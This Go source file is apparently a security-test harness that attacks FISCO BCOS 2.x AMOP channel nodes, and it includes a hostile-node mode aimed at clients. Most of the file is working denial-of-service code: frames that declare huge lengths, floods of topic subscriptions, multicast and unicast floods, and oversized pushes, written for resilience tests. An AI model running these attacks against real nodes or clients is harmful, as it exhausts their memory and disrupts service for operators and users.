// Command attacker runs one attack on an AMOP node (or, as a hostile node,
// on a client) from a process of its own. It shares no code with amoptui on
// purpose: it imports only the standard library and speaks the FISCO BCOS
// 2.x channel protocol from its description (a 42-byte header: length,
// type, seq, result; AMOP bodies [len(topic)+1][topic][data]), so that what
// the tests in package attack measure is the node's behaviour against a
// stranger, not against our own codec.
//
// Every mode ends by itself after -duration; the test also kills it.
package main

import (
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

const headerLen = 42

var (
	mode     = flag.String("mode", "", "declare | private | topics | noread | uniflood | bigmulticast | node")
	addr     = flag.String("addr", "", "the node's channel address (or, for -mode node, where to listen)")
	certs    = flag.String("certs", "", "directory with ca.crt, sdk.crt, sdk.key (and node0.crt, node0.key)")
	duration = flag.Duration("duration", 10*time.Second, "how long the attack lasts")
	sessions = flag.Int("sessions", 160, "declare: sessions")
	declare  = flag.Int("declare", 100<<20, "declare: the frame length each header declares")
	waves    = flag.Int("waves", 4, "declare: the sessions come in this many waves")
	count    = flag.Int("n", 30000, "private, topics: topics in the list; bigmulticast: multicasts")
	topic    = flag.String("topic", "victim", "uniflood, bigmulticast: the topic; noread: the topics the non-reader subscribes, comma-separated, the first flooded")
	size     = flag.Int("size", 64<<10, "payload size of the flood (node: of each push)")
	perTopic = flag.Int("per-topic", 3, "node: pushes of -size on each topic subscribed")
)

func main() {
	flag.Parse()
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "attacker:", err)
		os.Exit(1)
	}
}

func run() error {
	switch *mode {
	case "declare":
		return declareMode()
	case "private":
		names := make([]string, *count)
		for i := range names {
			names[i] = "#!$TopicNeedVerify_p" + strconv.Itoa(i)
		}
		return topicsMode(names)
	case "topics":
		names := make([]string, *count)
		for i := range names {
			names[i] = fmt.Sprintf("t%07d", i)
		}
		return topicsMode(names)
	case "noread":
		return noreadMode()
	case "uniflood":
		return unifloodMode()
	case "bigmulticast":
		return bigMulticastMode()
	case "node":
		return nodeMode()
	}
	return fmt.Errorf("unknown -mode %q", *mode)
}

// frame encodes one channel frame.
func frame(typ uint16, seq string, result int32, body []byte) []byte {
	b := make([]byte, headerLen, headerLen+len(body))
	binary.BigEndian.PutUint32(b[0:], uint32(headerLen+len(body)))
	binary.BigEndian.PutUint16(b[4:], typ)
	copy(b[6:38], seq)
	binary.BigEndian.PutUint32(b[38:], uint32(result))
	return append(b, body...)
}

// amopBody is [len(topic)+1][topic][data].
func amopBody(topic string, data []byte) []byte {
	b := make([]byte, 0, 1+len(topic)+len(data))
	b = append(b, byte(len(topic)+1))
	b = append(b, topic...)
	return append(b, data...)
}

var seqN atomic.Uint64

func newSeq() string { return fmt.Sprintf("%032x", seqN.Add(1)) }

func clientTLS() (*tls.Config, error) {
	ca, err := os.ReadFile(filepath.Join(*certs, "ca.crt"))
	if err != nil {
		return nil, err
	}
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(ca) {
		return nil, errors.New("ca.crt: no certificate")
	}
	cert, err := tls.LoadX509KeyPair(filepath.Join(*certs, "sdk.crt"), filepath.Join(*certs, "sdk.key"))
	if err != nil {
		return nil, err
	}
	// Node certificates carry no IP name: the chain is checked, not the host.
	return &tls.Config{Certificates: []tls.Certificate{cert}, RootCAs: pool, InsecureSkipVerify: true,
		MaxVersion: tls.VersionTLS12, VerifyPeerCertificate: verifyChain(pool)}, nil
}

func verifyChain(pool *x509.CertPool) func([][]byte, [][]*x509.Certificate) error {
	return func(raw [][]byte, _ [][]*x509.Certificate) error {
		if len(raw) == 0 {
			return errors.New("no node certificate")
		}
		leaf, err := x509.ParseCertificate(raw[0])
		if err != nil {
			return err
		}
		_, err = leaf.Verify(x509.VerifyOptions{Roots: pool, KeyUsages: []x509.ExtKeyUsage{x509.ExtKeyUsageAny}})
		return err
	}
}

func dial(cfg *tls.Config) (*tls.Conn, error) {
	return tls.DialWithDialer(&net.Dialer{Timeout: 10 * time.Second}, "tcp", *addr, cfg)
}

func write(c net.Conn, b []byte) error {
	_ = c.SetWriteDeadline(time.Now().Add(30 * time.Second))
	_, err := c.Write(b)
	return err
}

// discard reads and drops everything the node sends, so that a session is
// not a slow consumer; it returns when the connection ends.
func discard(c net.Conn) {
	_ = c.SetReadDeadline(time.Time{})
	_, _ = io.Copy(io.Discard, c)
}

// heartbeats keeps a session from the node's idle timer until stop closes.
func heartbeats(c net.Conn, stop <-chan struct{}) {
	t := time.NewTicker(2 * time.Second)
	defer t.Stop()
	for {
		select {
		case <-stop:
			return
		case <-t.C:
			if write(c, frame(0x13, newSeq(), 0, nil)) != nil {
				return
			}
		}
	}
}

// declareMode: many sessions, each sends one header that declares a huge
// frame and a few bytes of it, then waits; in -waves waves, each closing its
// sessions before the next opens, as a node that frees a declared buffer
// and allocates it again (zeroed, so resident) for the next wave would
// show (F1).
func declareMode() error {
	cfg, err := clientTLS()
	if err != nil {
		return err
	}
	w := max(*waves, 1)
	per := max(*sessions/w, 1)
	for wave := range w {
		var wg sync.WaitGroup
		var sent atomic.Int64
		conns := make(chan net.Conn, per)
		sem := make(chan struct{}, 8)
		for range per {
			wg.Add(1)
			go func() {
				defer wg.Done()
				sem <- struct{}{}
				defer func() { <-sem }()
				c, err := dial(cfg)
				if err != nil {
					fmt.Fprintln(os.Stderr, "attacker: dial:", err)
					return
				}
				conns <- c
				h := frame(0x35, newSeq(), 0, nil)
				binary.BigEndian.PutUint32(h, uint32(*declare))
				if write(c, append(h, amopBody("flood", nil)...)) == nil {
					sent.Add(1)
				}
			}()
		}
		wg.Wait()
		fmt.Printf("wave %d: %d headers declaring %d bytes\n", wave+1, sent.Load(), *declare)
		time.Sleep(*duration / time.Duration(w))
		close(conns)
		for c := range conns {
			c.Close()
		}
	}
	return nil
}

// topicsMode: one session subscribes to a huge list, then stays, reading
// (F2 with private names, F3 with plain ones).
func topicsMode(names []string) error {
	cfg, err := clientTLS()
	if err != nil {
		return err
	}
	c, err := dial(cfg)
	if err != nil {
		return err
	}
	defer c.Close()
	go discard(c)
	body, err := json.Marshal(names)
	if err != nil {
		return err
	}
	if err := write(c, frame(0x32, newSeq(), 0, body)); err != nil {
		return err
	}
	fmt.Printf("ready %d topics, %d bytes\n", len(names), len(body))
	stop := make(chan struct{})
	go heartbeats(c, stop)
	time.Sleep(*duration)
	close(stop)
	return nil
}

// noreadMode: one session subscribes to -topic and never reads; another
// floods -topic with multicasts of -size, reading its acknowledgements
// (F4).
func noreadMode() error {
	cfg, err := clientTLS()
	if err != nil {
		return err
	}
	still, err := dial(cfg)
	if err != nil {
		return err
	}
	defer still.Close()
	topics := strings.Split(*topic, ",")
	list, _ := json.Marshal(topics)
	if err := write(still, frame(0x32, newSeq(), 0, list)); err != nil {
		return err
	}
	flood := topics[0]
	pub, err := dial(cfg)
	if err != nil {
		return err
	}
	defer pub.Close()
	go discard(pub)
	fmt.Println("ready")
	payload := make([]byte, *size)
	end := time.Now().Add(*duration)
	n := 0
	for time.Now().Before(end) {
		if err := write(pub, frame(0x35, newSeq(), 0, amopBody(flood, payload))); err != nil {
			fmt.Println("publisher write:", err)
			break
		}
		n++
		if n%64 == 0 {
			time.Sleep(5 * time.Millisecond) // a flood, not a benchmark of loopback
		}
	}
	fmt.Printf("sent %d multicasts\n", n)
	if rest := time.Until(end); rest > 0 {
		time.Sleep(rest)
	}
	return nil
}

// unifloodMode: one session subscribes to -topic and echoes every unicast
// at once; another sends unicasts of -size to -topic as fast as it can
// write and never reads a reply, and starts again when the node closes it
// (F5).
func unifloodMode() error {
	cfg, err := clientTLS()
	if err != nil {
		return err
	}
	echo, err := dial(cfg)
	if err != nil {
		return err
	}
	defer echo.Close()
	list, _ := json.Marshal([]string{*topic})
	if err := write(echo, frame(0x32, newSeq(), 0, list)); err != nil {
		return err
	}
	go echoLoop(echo)
	time.Sleep(500 * time.Millisecond) // the subscription reaches the node first
	fmt.Println("ready")
	payload := make([]byte, *size)
	end := time.Now().Add(*duration)
	n, sessions := 0, 0
	for time.Now().Before(end) {
		c, err := dial(cfg)
		if err != nil {
			time.Sleep(100 * time.Millisecond)
			continue
		}
		sessions++
		for time.Now().Before(end) {
			_ = c.SetWriteDeadline(end)
			if _, err := c.Write(frame(0x30, newSeq(), 0, amopBody(*topic, payload))); err != nil {
				break // the node closed us, or held us back until the end
			}
			n++
		}
		c.Close()
	}
	fmt.Printf("sent %d unicasts over %d sessions\n", n, sessions)
	return nil
}

// echoLoop answers every 0x30 on c with its own body, as a subscriber.
func echoLoop(c net.Conn) {
	buf := make([]byte, 0, 1<<20)
	rd := make([]byte, 1<<16)
	for {
		m, err := c.Read(rd)
		if err != nil {
			return
		}
		buf = append(buf, rd[:m]...)
		for len(buf) >= 4 {
			n := int(binary.BigEndian.Uint32(buf))
			if n < headerLen || len(buf) < n {
				break
			}
			f := buf[:n]
			if binary.BigEndian.Uint16(f[4:6]) == 0x30 {
				if write(c, frame(0x31, string(f[6:38]), 0, f[headerLen:])) != nil {
					return
				}
			}
			buf = append(buf[:0], buf[n:]...)
		}
	}
}

// bigMulticastMode: one session multicasts -n payloads of -size to a topic
// nobody subscribes and never reads the acknowledgements (F6).
func bigMulticastMode() error {
	cfg, err := clientTLS()
	if err != nil {
		return err
	}
	c, err := dial(cfg)
	if err != nil {
		return err
	}
	defer c.Close()
	fmt.Println("ready")
	payload := make([]byte, *size)
	end := time.Now().Add(*duration)
	n := 0
	for ; n < *count && time.Now().Before(end); n++ {
		_ = c.SetWriteDeadline(end)
		if _, err := c.Write(frame(0x35, newSeq(), 0, amopBody(*topic, payload))); err != nil {
			break
		}
	}
	fmt.Printf("sent %d multicasts of %d bytes\n", n, *size)
	if rest := time.Until(end); rest > 0 {
		time.Sleep(rest)
	}
	return nil
}

// nodeMode is a hostile node: it answers a client's handshake, version
// call and heartbeats like a 2.9 node, and pushes -per-topic multicasts of
// -size bytes on every topic the client subscribes to, then one small
// "after" message on each (F8).
func nodeMode() error {
	cert, err := tls.LoadX509KeyPair(filepath.Join(*certs, "node0.crt"), filepath.Join(*certs, "node0.key"))
	if err != nil {
		return err
	}
	ln, err := tls.Listen("tcp", *addr, &tls.Config{Certificates: []tls.Certificate{cert},
		ClientAuth: tls.RequireAnyClientCert, MaxVersion: tls.VersionTLS12})
	if err != nil {
		return err
	}
	fmt.Println("listening", ln.Addr())
	go func() {
		time.Sleep(*duration)
		ln.Close()
	}()
	for {
		c, err := ln.Accept()
		if err != nil {
			return nil
		}
		go serveClient(c)
	}
}

func serveClient(c net.Conn) {
	defer c.Close()
	var wmu sync.Mutex
	send := func(b []byte) error {
		wmu.Lock()
		defer wmu.Unlock()
		return write(c, b)
	}
	pushed := map[string]bool{}
	buf := make([]byte, 0, 1<<16)
	rd := make([]byte, 1<<16)
	for {
		_ = c.SetReadDeadline(time.Now().Add(*duration))
		m, err := c.Read(rd)
		if err != nil {
			return
		}
		buf = append(buf, rd[:m]...)
		for len(buf) >= 4 {
			n := int(binary.BigEndian.Uint32(buf))
			if n < headerLen || n > 1<<20 {
				return // a client sends nothing this large here
			}
			if len(buf) < n {
				break
			}
			f := append([]byte(nil), buf[:n]...)
			buf = buf[n:]
			typ, seq, body := binary.BigEndian.Uint16(f[4:6]), string(f[6:38]), f[headerLen:]
			switch typ {
			case 0x14:
				_ = send(frame(0x14, seq, 0, []byte(`{"nodeVersion":"2.9.0","protocol":3}`+"\n")))
			case 0x13:
				_ = send(frame(0x13, seq, 0, []byte(`{"heartBeat":1}`+"\n")))
			case 0x12:
				var req struct {
					ID json.RawMessage `json:"id"`
				}
				_ = json.Unmarshal(body, &req)
				if len(req.ID) == 0 {
					req.ID = json.RawMessage("1")
				}
				res := `{"Build Time":"x","Build Type":"hostile","Chain Id":"1","FISCO-BCOS Version":"2.9.0",` +
					`"Git Branch":"x","Git Commit Hash":"x","Supported Version":"2.9.0"}`
				_ = send(frame(0x12, seq, 0, []byte(`{"id":`+string(req.ID)+`,"jsonrpc":"2.0","result":`+res+"}\n")))
			case 0x30, 0x35:
				if len(body) > 0 && int(body[0]) <= len(body) {
					_ = send(frame(0x31, seq, 0, amopBody(string(body[1:body[0]]), nil)))
				}
			case 0x32:
				var topics []string
				if json.Unmarshal(body, &topics) != nil {
					continue
				}
				for _, t := range topics {
					if pushed[t] || strings.HasPrefix(t, "_block_notify_") || strings.HasPrefix(t, "#!$") {
						continue
					}
					pushed[t] = true
					go pushHuge(send, t)
				}
			}
		}
	}
}

var (
	hugeOnce sync.Once
	huge     []byte
)

func pushHuge(send func([]byte) error, topic string) {
	hugeOnce.Do(func() {
		huge = make([]byte, *size)
		for i := range huge {
			huge[i] = 'a' // printable: a client that prints it has no escaping to do
		}
	})
	payload := huge
	for range *perTopic {
		if send(frame(0x35, newSeq(), 0, amopBody(topic, payload))) != nil {
			return
		}
	}
	if send(frame(0x35, newSeq(), 0, amopBody(topic, []byte("after "+topic)))) == nil {
		fmt.Println("pushed", *perTopic, "frames of", *size, "bytes and one small one on", topic)
	}
}
